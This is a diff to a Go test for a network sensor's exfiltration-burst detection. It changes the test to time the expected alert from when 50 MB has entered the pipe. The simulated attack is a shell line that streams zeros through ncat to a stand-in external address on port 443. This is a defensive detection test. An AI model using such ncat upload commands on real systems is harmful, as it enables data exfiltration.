@@ -1,6 +1,7 @@
 package scenarios
 
 import (
+	"bufio"
 	"fmt"
 	"math/rand"
 	"os"
@@ -375,6 +376,12 @@ s.close()`
 // socket-destroy notification, which carries the byte counters but no
 // owner: the alert must still fire with the destination; the process is
 // named only when a poll saw the connection open.
+//
+// The alert is due once 50 MB (exfiltration's threshold_bytes) has left, not
+// when the command starts: on a loaded machine the "burst" can take 6 s and
+// cross the threshold a poll or two after it began. The shell prints a mark
+// when the threshold's bytes have entered ncat's pipe; ncat has sent them no
+// earlier, so measuring from the mark never flatters the sensor.
 func TestExfiltrationBurst(t *testing.T) {
 	netns.RequireTools(t, "ncat", "nsenter", "unshare")
 	eachMode(t, func(t *testing.T, m mode) {
@@ -382,12 +389,34 @@ func TestExfiltrationBurst(t *testing.T) {
 		const dst = "203.0.113.51"
 		listenOnce(t, topo, dst, "443", "--recv-only")
 		s := startSensor(t, topo, "exfiltration_burst", sensorOptions{mode: m})
-		cmd, start := hostStart(t, topo, 30*time.Second, "sh", "-c", "head -c 200M /dev/zero | ncat --send-only "+dst+" 443")
+		const threshold = "50000000" // exfiltration's default threshold_bytes, which the sensor runs with
+		script := "exec 3>&1; { head -c " + threshold + " /dev/zero; echo crossed >&3; head -c $((200000000 - " + threshold + ")) /dev/zero; } | ncat --send-only " + dst + " 443 >/dev/null 3>&-"
+		cmd := topo.HostCmd(ctxFor(t, 30*time.Second), "sh", "-c", script)
+		out, err := cmd.StdoutPipe()
+		if err != nil {
+			t.Fatal(err)
+		}
+		start := time.Now()
+		bg(t, topo, cmd)
+		crossed := make(chan time.Time, 1)
+		go func() {
+			sc := bufio.NewScanner(out)
+			for sc.Scan() {
+				if sc.Text() == "crossed" {
+					crossed <- time.Now()
+				}
+			}
+			close(crossed)
+		}()
+		at, ok := <-crossed
+		if !ok {
+			t.Fatal("the upload ended before its first 50 MB had entered ncat's pipe")
+		}
 		if err := cmd.Wait(); err != nil {
 			t.Fatalf("upload failed: %v", err)
 		}
-		t.Logf("200 MB burst took %.2f s", time.Since(start).Seconds())
-		s.expect(t, "exfiltration_burst", "T1048", start, "200 MB burst via ncat to "+dst+":443 (process named only if a poll saw it open)",
+		t.Logf("200 MB burst took %.2f s (threshold's bytes in the pipe after %.2f s)", time.Since(start).Seconds(), at.Sub(start).Seconds())
+		s.expect(t, "exfiltration_burst", "T1048", at, "200 MB burst via ncat to "+dst+":443 (process named only if a poll saw it open)",
 			and(isTechnique("exfiltration", "T1048"), destIs(dst)))
 	})
 }
